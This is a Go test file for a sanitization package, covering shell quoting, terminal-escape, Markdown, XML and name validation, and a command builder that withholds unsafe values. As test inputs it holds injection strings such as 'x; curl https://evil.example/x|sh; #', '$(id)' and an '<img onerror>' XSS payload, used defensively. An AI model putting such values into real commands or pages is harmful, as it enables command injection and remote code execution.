package sanitize

import (
	"strings"
	"testing"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"
)

func TestLine(t *testing.T) {
	cases := map[string]string{
		"redis-connector":        "redis-connector",
		"a\nb":                   `a\nb`,
		"x\x1b]8;;http://e\x07y": `x\x1b]8;;http://e\x07y`,
		"\x1b[31mred":            `\x1b[31mred`,
		"name\n::error::pwned":   `name\n::error::pwned`,
		"ab\u202ecd":             `ab\u202ecd`,
		"line\u2028sep":          `line\u2028sep`,
		"c1\u009bx":              `c1\x9bx`,
		"bad\xffutf8":            `bad\xffutf8`,
		"tab\there":              `tab\there`,
		"ünïcode ✓":              "ünïcode ✓",
		"zero\u200bwidth":        `zero\u200bwidth`,
		"del\x7f":                `del\x7f`,
		"cr\rreturn":             `cr\rreturn`,
		"":                       "",
	}
	for in, want := range cases {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestShellParsesAsOneWord parses every quoted value with a POSIX shell parser and checks that
// it is exactly one argument equal to the input.
func TestShellParsesAsOneWord(t *testing.T) {
	values := []string{
		"redis-connector", "x; curl https://evil.example/x|sh; #", "$(id)", "`id`", "a'b", "''",
		"", "-rf", "a b", "*", "~root", "x\ny", "!event", "a\\b", "{a,b}", "--flag=$HOME",
		"projects/p/locations/r/connectors/c", "10.8.0.0/28", "tcp:667,udp:665-666",
	}
	for _, v := range values {
		argv := parseArgv(t, "gcloud describe "+Shell(v)+" --project p")
		if len(argv) != 5 || argv[2] != v {
			t.Errorf("Shell(%q) = %s parses as %q", v, Shell(v), argv)
		}
	}
}

func parseArgv(t *testing.T, command string) []string {
	t.Helper()
	file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(command), "")
	if err != nil {
		t.Fatalf("parse %q: %v", command, err)
	}
	if len(file.Stmts) != 1 {
		t.Fatalf("%q: %d statements", command, len(file.Stmts))
	}
	call, ok := file.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(file.Stmts[0].Redirs) > 0 {
		t.Fatalf("%q: not one simple command", command)
	}
	var argv []string
	for _, w := range call.Args {
		lit, ok := literal(w)
		if !ok {
			t.Fatalf("%q: word %d is not a literal", command, len(argv))
		}
		argv = append(argv, lit)
	}
	return argv
}

// literal returns a word's value when it has no expansion at all.
func literal(w *syntax.Word) (string, bool) {
	var b strings.Builder
	for _, part := range w.Parts {
		switch p := part.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, "*?[~") {
				return "", false
			}
			b.WriteString(strings.ReplaceAll(p.Value, `\`, ""))
		case *syntax.SglQuoted:
			if p.Dollar {
				return "", false
			}
			b.WriteString(p.Value)
		default:
			return "", false
		}
	}
	return b.String(), true
}

func TestMarkdownText(t *testing.T) {
	got := MarkdownText("<img src=x onerror=alert(1)> | `x` </details> [a](http://e) *b*\n# h")
	for _, bad := range []string{"<img", "</details>", "\n", " | ", "[a](", "`x`"} {
		if strings.Contains(got, bad) {
			t.Errorf("MarkdownText left %q in %q", bad, got)
		}
	}
}

func TestMarkdownCode(t *testing.T) {
	cases := map[string]string{
		"plain": "`plain`",
		"a`b":   "``a`b``",
		"`edge": "`` `edge ``",
		"x|y":   "`x|y`",
		"a\nb":  "`a\\nb`",
		"":      "` `",
	}
	for in, want := range cases {
		if got := MarkdownCode(in, false); got != want {
			t.Errorf("MarkdownCode(%q) = %q, want %q", in, got, want)
		}
	}
	if got := MarkdownCode("x|y", true); got != "`x\\|y`" {
		t.Errorf("table code = %q", got)
	}
}

func TestMarkdownFence(t *testing.T) {
	got := MarkdownFence("sh", []string{"echo ```", "gcloud x\n```\n<b>"})
	if !strings.HasPrefix(got, "````sh\n") || !strings.HasSuffix(got, "\n````\n") || strings.Count(got, "\n") != 4 {
		t.Errorf("fence = %q", got)
	}
}

func TestXML(t *testing.T) {
	got := XML("ok\x00\x1b\x0bbad\ufffe\xff\tkeep\n")
	if !utf8.ValidString(got) {
		t.Fatalf("invalid UTF-8: %q", got)
	}
	for _, r := range got {
		if !xmlChar(r) {
			t.Errorf("XML left %U in %q", r, got)
		}
	}
	if !strings.Contains(got, "\tkeep\n") {
		t.Errorf("XML dropped allowed whitespace: %q", got)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range []string{"", "a\nb", "\x1b[2J", "'", "`", "\xff", "\u202e", "::error::x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		line := Line(s)
		for _, r := range line {
			if needsEscape(r) {
				t.Fatalf("Line(%q) kept %U", s, r)
			}
		}
		if !utf8.ValidString(line) {
			t.Fatalf("Line(%q) invalid UTF-8", s)
		}
		for _, r := range XML(s) {
			if !xmlChar(r) {
				t.Fatalf("XML(%q) kept %U", s, r)
			}
		}
		if strings.ContainsAny(MarkdownText(s), "<>\n\r") {
			t.Fatalf("MarkdownText(%q) kept markup", s)
		}
		if !strings.ContainsRune(s, 0) && utf8.ValidString(s) {
			argv := parseArgv(t, "x "+Shell(s))
			if len(argv) != 2 || argv[1] != s {
				t.Fatalf("Shell(%q) parses as %q", s, argv)
			}
		}
	})
}

func TestIsName(t *testing.T) {
	for _, ok := range []string{"", "my-project", "example.com:my-project", "us-central1", "redis-connector",
		"projects/p/locations/us-central1/connectors/c", "123456789012-compute@developer.gserviceaccount.com",
		"10.8.0.0/28", "REDIS_AUTH", "https://www.googleapis.com/compute/v1/projects/p/global/networks/default"} {
		if !IsName(ok) {
			t.Errorf("IsName(%q) = false, want true", ok)
		}
	}
	for _, bad := range []string{"-rf", "--impersonate-service-account=x", "a b", "a;b", "$(id)", "`id`", "a|b", "a'b", `a"b`,
		"a\nb", "a\x1bb", "a,b", "a=b", "~root", "*", "a\u202eb", "é", strings.Repeat("a", maxNameLength+1)} {
		if IsName(bad) {
			t.Errorf("IsName(%q) = true, want false", bad)
		}
	}
}

func TestCommand(t *testing.T) {
	got := Command("gcloud x %s --port %d %s", "name", 6379, Words("--flag 'a b'"))
	if want := "gcloud x name --port 6379 --flag 'a b'"; got != want {
		t.Errorf("Command = %q, want %q", got, want)
	}
	if _, withheld := Withheld(got); withheld {
		t.Errorf("Withheld(%q) = true", got)
	}
	bad := Command("gcloud x %s --project %s", "x; curl evil|sh", "p")
	if value, withheld := Withheld("prefix " + bad + " suffix"); !withheld || value != "x; curl evil|sh" {
		t.Errorf("Withheld = %q, %t; want the hostile value, true", value, withheld)
	}
	if strings.Contains(bad, "gcloud") {
		t.Errorf("a withheld command must not carry the command: %q", bad)
	}
}

// FuzzCommand: whatever the values, Command either withholds the command or builds one
// that parses as exactly the intended argv.
func FuzzCommand(f *testing.F) {
	for _, s := range []string{"my-redis", "x; curl evil|sh; #", "$(id)", "`id`", "a\nb", "\x1b[31m", "-rf", "a'b", ""} {
		f.Add(s, "us-central1")
	}
	f.Fuzz(func(t *testing.T, name, region string) {
		cmd := Command("gcloud redis instances describe %s --region %s --port %d", name, region, 6379)
		if value, withheld := Withheld(cmd); withheld {
			if IsName(name) && IsName(region) {
				t.Fatalf("withheld %q although both values are names", value)
			}
			return
		}
		argv := parseArgv(t, cmd)
		want := []string{"gcloud", "redis", "instances", "describe", name, "--region", region, "--port", "6379"}
		if strings.Join(argv, "\x00") != strings.Join(want, "\x00") {
			t.Fatalf("Command(%q, %q) parses as %q", name, region, argv)
		}
	})
}
